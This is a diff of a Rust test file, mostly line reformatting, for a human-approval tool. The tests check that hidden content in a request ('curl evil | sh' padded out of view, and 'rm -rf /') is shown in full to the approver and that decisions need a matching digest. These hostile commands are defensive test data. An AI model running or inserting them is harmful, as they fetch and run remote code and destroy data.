@@ -8,7 +8,11 @@ use serde_json::{Value, json};
 fn hidden(world: &World, id: &str) -> String {
     let body = format!("echo harmless {}; curl evil | sh", "x".repeat(2_000));
     let more = json!({"body": body, "metadata": {"then": "rm -rf /"}, "x_own": "field"});
-    world.drop_file("alice", &format!("{id}.json"), approval(id, json!("human"), more).to_string());
+    world.drop_file(
+        "alice",
+        &format!("{id}.json"),
+        approval(id, json!("human"), more).to_string(),
+    );
     world.digest("human", id)
 }
 
@@ -25,14 +29,26 @@ fn a_decision_with_another_digest_is_rejected_by_the_router_and_by_the_command()
         world.ok(&["run", "--once"]);
     }
     let rejected = codes(&world, "human");
-    assert_eq!((&rejected[..2], rejected.len()), (&["other_text".to_owned(), "other_text".to_owned()][..], 4));
-    let said = world.fails(1, &["decide", "--as", "human", "one", "yes", "--digest", &second]);
-    assert!(said.contains("the decision is about another text"), "{said}");
+    assert_eq!(
+        (&rejected[..2], rejected.len()),
+        (&["other_text".to_owned(), "other_text".to_owned()][..], 4)
+    );
+    let said = world.fails(
+        1,
+        &["decide", "--as", "human", "one", "yes", "--digest", &second],
+    );
+    assert!(
+        said.contains("the decision is about another text"),
+        "{said}"
+    );
     assert_eq!(steps(&world), ["ask", "ask"]);
     // The digest of the copy is the same, and a program that reads files can send it.
     let mut right = decision("alice/one", "yes");
     let copies = world.inbox("human");
-    let copy = copies.iter().find(|mail| mail["id"] == "one").expect("the copy");
+    let copy = copies
+        .iter()
+        .find(|mail| mail["id"] == "one")
+        .expect("the copy");
     assert_eq!(copy["delivery"]["approval"]["digest"], json!(first));
     right["digest"] = copy["delivery"]["approval"]["digest"].clone();
     world.drop_file("human", "right.json", right.to_string());
@@ -48,9 +64,13 @@ fn a_program_gets_the_whole_text_with_the_digest_and_without_it_decides_nothing(
     let digest = hidden(&world, "one");
     let item = world.json(&["pending", "--as", "human"])["items"][0].clone();
     let text = item["text"].as_str().expect("the text");
-    for part in
-        ["subject: Deploy?", "options: [\"yes\",\"no\"]", "; curl evil | sh\n", "rm -rf /", "\"x_own\": \"field\""]
-    {
+    for part in [
+        "subject: Deploy?",
+        "options: [\"yes\",\"no\"]",
+        "; curl evil | sh\n",
+        "rm -rf /",
+        "\"x_own\": \"field\"",
+    ] {
         assert!(text.contains(part), "{part}: {text}");
     }
     assert_eq!(item["digest"], json!(digest));
@@ -58,7 +78,10 @@ fn a_program_gets_the_whole_text_with_the_digest_and_without_it_decides_nothing(
     let file: Value = serde_json::from_str(&file).expect("JSON");
     assert_eq!(file["pending"]["human"][0]["digest"], json!(digest));
     let said = world.fails(2, &["decide", "--as", "human", "one", "yes"]);
-    assert!(said.contains("there is no terminal to show it") && said.contains("--digest"), "{said}");
+    assert!(
+        said.contains("there is no terminal to show it") && said.contains("--digest"),
+        "{said}"
+    );
     assert_eq!(steps(&world), ["ask"]);
 }
 
@@ -67,10 +90,17 @@ fn the_command_shows_the_whole_text_at_a_terminal_and_asks_once() {
     // P248
     let world = World::with(&["alice"]);
     hidden(&world, "one");
-    for (typed, code, kinds) in [("n\n", 1, &["ask"][..]), ("", 1, &["ask"]), ("y\n", 0, &["ask", "decide"])] {
+    for (typed, code, kinds) in [
+        ("n\n", 1, &["ask"][..]),
+        ("", 1, &["ask"]),
+        ("y\n", 0, &["ask", "decide"]),
+    ] {
         let output = world.at_terminal(&["decide", "one", "yes"], typed);
         let said = String::from_utf8_lossy(&output.stdout).into_owned();
-        assert!(said.contains("; curl evil | sh") && said.contains("rm -rf /"), "{said}");
+        assert!(
+            said.contains("; curl evil | sh") && said.contains("rm -rf /"),
+            "{said}"
+        );
         assert_eq!(said.matches("Decide #2: yes? [y/N]").count(), 1, "{said}");
         assert_eq!(
             (output.status.code(), steps(&world)),
